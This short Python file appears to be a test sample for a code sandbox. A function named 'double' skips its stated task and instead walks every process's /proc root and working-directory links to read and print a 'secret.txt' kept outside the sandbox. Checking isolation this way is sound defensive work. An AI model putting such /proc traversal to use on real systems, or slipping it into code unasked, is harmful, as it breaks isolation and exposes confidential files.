"""Looks through the root and working folders of every process.

Loses: double-small, double-large
"""
# %% double
import glob


def double(x):
    for process in glob.glob("/proc/[0-9]*"):
        for place in ("root", "cwd", "task/1/root"):
            for path in ("outside/secret.txt", "../outside/secret.txt", "../../outside/secret.txt"):
                try:
                    print("$MARK", open(f"{process}/{place}/{path}").read())
                except OSError:
                    pass
    return 0
